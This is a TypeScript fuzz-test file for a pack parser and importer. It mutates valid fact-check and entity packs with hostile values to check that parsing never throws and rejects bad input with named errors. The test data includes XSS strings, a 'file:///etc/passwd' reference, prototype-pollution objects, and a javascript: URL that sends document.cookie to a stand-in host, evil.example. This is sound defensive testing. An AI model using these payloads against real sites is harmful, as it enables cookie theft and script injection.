/**
 * Generated hostile packs: thousands of seeded random mutations of valid packs.
 * parsePack must never throw; it returns either a complete valid pack or only
 * errors, each naming the field path; never a partly filled result.
 */
import { describe, expect, it } from 'vitest';
import type { Pack } from '../../../model/types.ts';
import { importSource, LIMITS, parsePack } from '../../../packs/index.ts';
import { ID_PATTERN } from '../../../packs/schema.ts';
import { examplePack, fixture as readFixture } from './helpers.ts';
import { prng } from '../../../util/prng.ts';

/** Seeded (util/prng.ts) so failures reproduce. */
function rng(seed: number) {
  const next = prng(seed);
  return {
    next,
    int: (n: number) => Math.floor(next() * n),
    pick: <T>(xs: readonly T[]): T => xs[Math.floor(next() * xs.length)]!,
  };
}
type R = ReturnType<typeof rng>;

/** Deep nesting is spliced into the JSON text (JSON.stringify itself would overflow). */
const DEEP = /"@@deep:(\d+)@@"/g;
function deep(depth: number): string {
  return `@@deep:${depth}@@`;
}
function expandDeep(text: string): string {
  return text.replace(DEEP, (_m, n: string) => `${'[{"x":'.repeat(Number(n))}"bottom"${'}]'.repeat(Number(n))}`);
}

function hostileValue(r: R): unknown {
  switch (r.int(22)) {
    case 0: return null;
    case 1: return r.int(1e9) - 5e8;
    case 2: return r.next() < 0.5;
    case 3: return [];
    case 4: return {};
    case 5: return 'javascript:alert(document.cookie)';
    case 6: return 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==';
    case 7: return 'file:///etc/passwd';
    case 8: return '<img src=x onerror="alert(1)"><script>alert(2)</script>';
    case 9: return 'x'.repeat(r.pick([301, 2001, 2049, 100_000]));
    case 10: return '';
    case 11: return ' \t\n\u0000\u0007 ';
    case 12: return deep(r.pick([10, 1000, 5000]));
    case 13: return { __proto__: { polluted: true }, constructor: { prototype: { polluted: true } } };
    case 14: return '\u202Eevil\u0000name\u0085';
    case 15: return ['a', 1, null, {}];
    case 16: return 'https://ok.example/path?q=1';
    case 17: return '2024-02-30T25:61';
    case 18: return 'entity with spaces';
    case 19: return 1e308;
    case 20: return ' https://trimmed.example/ ';
    default: return '\uD800 lone surrogate';
  }
}

/** Collects every path (key lists) to a value inside o. */
function paths(o: unknown, prefix: (string | number)[] = [], out: (string | number)[][] = []): (string | number)[][] {
  if (o && typeof o === 'object') {
    for (const [k, v] of Object.entries(o)) {
      const key = Array.isArray(o) ? Number(k) : k;
      out.push([...prefix, key]);
      paths(v, [...prefix, key], out);
    }
  }
  return out;
}

function parentOf(root: Record<string, unknown>, path: (string | number)[]): [Record<string | number, unknown>, string | number] {
  let node: any = root;
  for (const k of path.slice(0, -1)) node = node[k];
  return [node, path[path.length - 1]!];
}

const BASE_EXTRA = {
  entities: [
    { id: 'Q5:ok.1', type: 'person', name: 'Ada Lovelace', aliases: ['Ada', 'ADA'], description: 'Mathematician.', facts: [{ text: 'Born 1815.', sourceUrl: 'https://www.wikidata.org/wiki/Q7259', sourceName: 'Wikidata', asOf: '2024-01' }] },
  ],
  claims: [
    { id: 'cr-1', text: 'A claim', quotes: ['a claim said otherwise'], verdict: 'mixed', verdictLabel: 'Half true', reviewer: 'R', reviewDate: '2024-01-02T03:04:05Z', url: 'https://r.example/1' },
  ],
};

function basePack(r: R): Record<string, unknown> {
  const p = examplePack() as Record<string, any>;
  if (r.next() < 0.5) {
    p.entities.push(...structuredClone(BASE_EXTRA.entities));
    p.claims.push(...structuredClone(BASE_EXTRA.claims));
  }
  return p;
}

type Mutation = { kind: string; mustFail: boolean };

const REQUIRED_LEAF = /^(format|version|id|name|publisher|licence|updated)$|^(entities|claims)\.\d+\.(id|type|name|text|verdict|verdictLabel|reviewer|reviewDate|url)$|^entities\.\d+\.facts\.\d+\.(text|sourceUrl|sourceName)$/;
const URL_LEAF = /(^homepage|\.sourceUrl|^claims\.\d+\.url)$/;

function mutate(p: Record<string, unknown>, r: R): Mutation {
  const all = paths(p);
  const path = r.pick(all);
  const dotted = path.join('.');
  const [parent, key] = parentOf(p, path);
  const op = r.int(8);
  if (op === 0) {
    // Delete a key (or an array element).
    if (Array.isArray(parent)) parent.splice(Number(key), 1);
    else delete parent[key];
    return { kind: `delete ${dotted}`, mustFail: !Array.isArray(parent) && REQUIRED_LEAF.test(dotted) };
  }
  if (op === 1) {
    // Duplicate an entity or claim (same id).
    const list = r.next() < 0.5 ? p.entities : p.claims;
    const item = Array.isArray(list) && list.length ? list[r.int(list.length)] : undefined;
    if (Array.isArray(list) && item && typeof item === 'object' && typeof (item as { id?: unknown }).id === 'string' && ID_PATTERN.test((item as { id: string }).id.trim())) {
      list.splice(r.int(list.length + 1), 0, structuredClone(item));
      return { kind: 'duplicate record', mustFail: true };
    }
    return { kind: 'noop', mustFail: false };
  }
  if (op === 2) {
    // Prototype-pollution keys as own properties.
    const entities = Array.isArray(p.entities) ? (p.entities as unknown[]) : [];
    const target = r.pick([p, ...entities.filter((x): x is object => !!x && typeof x === 'object' && !Array.isArray(x))]);
    const k = r.pick(['__proto__', 'constructor', 'prototype']);
    Object.defineProperty(target, k, { value: { polluted: true, toString: 'x' }, enumerable: true, configurable: true, writable: true });
    return { kind: `own ${k}`, mustFail: false };
  }
  if (op === 3 && URL_LEAF.test(dotted)) {
    const bad = r.pick(['javascript:alert(1)', 'JAVASCRIPT:alert(1)', ' javascript:x', 'data:text/html,x', 'file:///x', 'vbscript:x', '//evil.example', 'https://', 'http//missing-colon']);
    parent[key] = bad;
    return { kind: `bad url ${dotted}`, mustFail: true };
  }
  const value = hostileValue(r);
  parent[key] = value;
  const valueIsWrongForRequired = value === null || typeof value !== 'string' || value.trim() === '' || /^\s*\u0000/.test(value);
  return { kind: `set ${dotted}`, mustFail: REQUIRED_LEAF.test(dotted) && valueIsWrongForRequired && typeof value !== 'string' && dotted !== 'version' };
}

// eslint-disable-next-line no-control-regex
const CONTROL = /[\u0000-\u0008\u000B\u000C\u000E-\u001F\u007F-\u009F\u202A-\u202E\u2066-\u2069]/;

function assertValidPack(pack: Pack) {
  expect(pack.format).toBe('gloss-pack');
  expect(pack.version).toBe(1);
  const ids = new Set<string>();
  const strings: string[] = [pack.id, pack.name, pack.publisher, pack.licence, pack.updated];
  const urls: string[] = pack.homepage ? [pack.homepage] : [];
  for (const e of pack.entities) {
    expect(Object.getPrototypeOf(e)).toBe(Object.prototype);
    expect(Object.keys(e).sort()).toEqual(['aliases', 'description', 'facts', 'id', 'name', 'type']);
    expect(ID_PATTERN.test(e.id)).toBe(true);
    expect(ids.has(e.id)).toBe(false);
    ids.add(e.id);
    expect(e.name.length).toBeGreaterThan(0);
    expect(e.name.length).toBeLessThanOrEqual(LIMITS.nameLength);
    expect(e.aliases.length).toBeLessThanOrEqual(LIMITS.maxAliases);
    expect(e.description.length).toBeLessThanOrEqual(LIMITS.descriptionLength);
    strings.push(e.name, e.description, ...e.aliases);
    for (const f of e.facts) {
      strings.push(f.text, f.sourceName);
      urls.push(f.sourceUrl);
    }
  }
  for (const c of pack.claims) {
    expect(ids.has(c.id)).toBe(false);
    ids.add(c.id);
    strings.push(c.text, c.verdictLabel, c.reviewer, ...(c.quotes ?? []));
    urls.push(c.url);
  }
  for (const s of strings) {
    expect(typeof s).toBe('string');
    expect(CONTROL.test(s)).toBe(false);
    expect(s).toBe(s.trim());
  }
  for (const u of urls) expect(u).toMatch(/^https?:\/\/[^/\s]/i);
}

function assertErrors(errors: { message: string; path?: string; recordId?: string }[]) {
  expect(errors.length).toBeGreaterThan(0);
  for (const e of errors) {
    expect(Object.keys(e).every((k) => ['message', 'path', 'recordId'].includes(k))).toBe(true);
    expect(e.message).toMatch(/^Pack '[^']*': /);
    if (e.path === undefined) {
      // Whole-document problems only.
      expect(e.message).toMatch(/not valid JSON|must be a JSON object|larger than|more errors/);
      continue;
    }
    const m = /^(entities|claims)\[(\d+)\]\.?(.*)$/.exec(e.path);
    if (m) {
      const rest = m[3]!;
      const record = e.recordId !== undefined ? `${m[1] === 'entities' ? 'entity' : 'claim'} '` : `${m[1]}[${m[2]}]`;
      expect(e.message).toContain(record);
      if (rest && rest !== 'id') expect(e.message).toContain(` ${rest}: `);
    } else {
      expect(e.message).toContain(`${e.path}: `);
    }
  }
}

describe('hostile packs', () => {
  const N = Number(process.env.GLOSS_HOSTILE_N ?? 3000);
  it(`${N} seeded random mutations: valid pack or named errors, never a throw or a partial result`, () => {
    const stats = { ok: 0, rejected: 0, mustFailCaught: 0 };
    for (let seed = 1; seed <= N; seed++) {
      const r = rng(seed);
      const p = basePack(r);
      const mutations: Mutation[] = [];
      const count = 1 + r.int(4);
      for (let i = 0; i < count; i++) mutations.push(mutate(p, r));
      let text = expandDeep(JSON.stringify(p));
      if (r.next() < 0.03) text = text.slice(0, r.int(text.length)); // truncated download
      let result: ReturnType<typeof parsePack>;
      try {
        result = parsePack(text, { sourceName: `hostile-${seed}` });
      } catch (e) {
        throw new Error(`seed ${seed} (${mutations.map((m) => m.kind).join('; ')}) threw: ${(e as Error).stack}`);
      }
      const context = `seed ${seed}: ${mutations.map((m) => m.kind).join('; ')}`;
      // Later mutations may undo earlier ones, so "must fail" is only judged for single mutations.
      const mustFail = mutations.length === 1 && mutations[0]!.mustFail;
      if (result.ok) {
        stats.ok++;
        expect(Object.keys(result).sort(), context).toEqual(['ok', 'pack', 'warnings']);
        expect(mustFail, `${context} should have failed`).toBe(false);
        assertValidPack(result.pack);
        // Parsing the output again gives the same pack (sanitising is idempotent).
        const again = parsePack(JSON.stringify(result.pack));
        expect(again.ok && again.pack, context).toEqual(result.pack);
      } else {
        stats.rejected++;
        if (mustFail) stats.mustFailCaught++;
        expect(Object.keys(result).sort(), context).toEqual(['errors', 'ok']);
        assertErrors(result.errors);
      }
      expect(({} as Record<string, unknown>).polluted, context).toBeUndefined();
      expect((Object.prototype as Record<string, unknown>).polluted, context).toBeUndefined();
    }
    console.log(`hostile packs: ${JSON.stringify(stats)}`);
    expect(stats.ok).toBeGreaterThan(N * 0.05);
    expect(stats.rejected).toBeGreaterThan(N * 0.5);
    expect(stats.mustFailCaught).toBeGreaterThan(N * 0.03);
  }, 120_000);

  it('never echoes a hostile URL in full', () => {
    const p = examplePack() as any;
    p.claims[0].url = 'javascript:fetch("https://evil.example/?c="+document.cookie)';
    const r = parsePack(JSON.stringify(p));
    expect(r.ok).toBe(false);
    if (!r.ok) expect(r.errors[0]!.message).not.toContain('document.cookie');
  });

  it('survives very deep nesting in any field', () => {
    const p = examplePack() as any;
    for (const depth of [1000, 200_000]) {
      p.entities[0].facts = deep(depth);
      const r = parsePack(expandDeep(JSON.stringify(p)), { sourceName: 'deep' });
      expect(r.ok).toBe(false);
      if (!r.ok) expect(r.errors[0]!.message).toMatch(/^Pack 'deep': (entity 'nypd' facts\[0\]|is not valid JSON)/);
    }
  });
});

describe('hostile sources through importSource', () => {
  const claimReviewLines = fixtureLines();
  function fixtureLines(): unknown[] {
    return readFixture('claimreview', 'factckbr-sample.jsonl')
      .split('\n')
      .filter((l) => l.trim())
      .map((l) => JSON.parse(l) as unknown);
  }
  // Trimmed to a few languages and the statements the importer reads, so each mutation is cheap.
  const keep = <T,>(o: Record<string, T> | undefined, keys: string[]) => Object.fromEntries(Object.entries(o ?? {}).filter(([k]) => keys.includes(k)));
  const wikidataItems = ['Q328212.json', 'Q646148.json', 'Q217447.json', 'L525-F2.json'].map((f) => {
    const e = JSON.parse(readFixture('wikidata', f)) as Record<string, any>;
    const langs = ['en', 'pt', 'mul', 'de'];
    return {
      ...e,
      labels: keep(e.labels, langs),
      descriptions: keep(e.descriptions, langs),
      aliases: keep(e.aliases, langs),
      claims: Object.fromEntries(Object.entries(keep(e.claims, ['P31', 'P39', 'P569', 'P17', 'P625', 'P1082'])).map(([k, v]) => [k, (v as unknown[]).slice(0, 3)])),
      sitelinks: undefined,
    } as unknown;
  });

  function randomMutations(root: unknown, r: R, n: number) {
    for (let i = 0; i < n; i++) {
      const all = paths(root);
      if (!all.length) return;
      const path = r.pick(all);
      const [parent, key] = parentOf(root as Record<string, unknown>, path);
      if (r.next() < 0.25) {
        if (Array.isArray(parent)) parent.splice(Number(key), 1);
        else delete parent[key];
      } else parent[key] = hostileValue(r);
    }
  }

  function check(result: ReturnType<typeof importSource>, context: string) {
    if (result.ok) {
      expect(Object.keys(result).sort(), context).toEqual(['ok', 'pack', 'warnings']);
      assertValidPack(result.pack);
      const again = parsePack(JSON.stringify(result.pack));
      expect(again.ok, context).toBe(true);
    } else {
      expect(Object.keys(result).sort(), context).toEqual(['errors', 'ok']);
      expect(result.errors.length).toBeGreaterThan(0);
      for (const e of result.errors) expect(e.message).toMatch(/^(Source|Pack) '/);
    }
  }

  it('1,000 mutated ClaimReview feeds and 1,000 mutated Wikidata files never throw', () => {
    for (let seed = 1; seed <= 1000; seed++) {
      const r = rng(10_000 + seed);
      const feed = structuredClone(claimReviewLines.slice(0, 1 + r.int(6)));
      randomMutations(feed, r, 1 + r.int(8));
      const wrapped = r.pick([feed, { '@graph': feed }, { '@type': 'DataFeed', dataFeedElement: feed.map((item) => ({ item })) }]);
      const text = r.next() < 0.3 ? feed.map((x) => expandDeep(JSON.stringify(x) ?? 'null')).join('\n') : expandDeep(JSON.stringify(wrapped));
      let result: ReturnType<typeof importSource> | undefined;
      expect(() => (result = importSource(text, { sourceName: `cr-${seed}` })), `ClaimReview seed ${seed}`).not.toThrow();
      check(result!, `ClaimReview seed ${seed}`);
    }
    for (let seed = 1; seed <= 1000; seed++) {
      const r = rng(20_000 + seed);
      const entity = structuredClone(r.pick(wikidataItems));
      randomMutations(entity, r, 1 + r.int(20));
      const text = expandDeep(JSON.stringify(r.next() < 0.5 ? entity : { entities: { Q1: entity } }));
      let result: ReturnType<typeof importSource> | undefined;
      expect(() => (result = importSource(text, { sourceName: `wd-${seed}`, languages: ['pt', 'en'] })), `Wikidata seed ${seed}`).not.toThrow();
      check(result!, `Wikidata seed ${seed}`);
    }
  }, 120_000);

  it('1,000 random CSV texts never throw and report lines', () => {
    const alphabet = ['a', 'B', ',', '"', '""', '\n', '\r\n', '|', ' ', 'person', 'place', 'javascript:', '<b>', '\u0000', 'é'];
    for (let seed = 1; seed <= 1000; seed++) {
      const r = rng(30_000 + seed);
      let body = '';
      for (let i = 0, n = r.int(200); i < n; i++) body += r.pick(alphabet);
      const text = `name,aliases,type,description\n${body}`;
      let result: ReturnType<typeof importSource> | undefined;
      expect(() => (result = importSource(text, { filename: `f${seed}.csv` }))).not.toThrow();
      if (!result!.ok) for (const e of result!.errors) expect(e.message).toMatch(/^Source 'f\d+\.csv': (line \d+: |empty CSV)/);
      else assertValidPack(result!.pack);
    }
  });
});
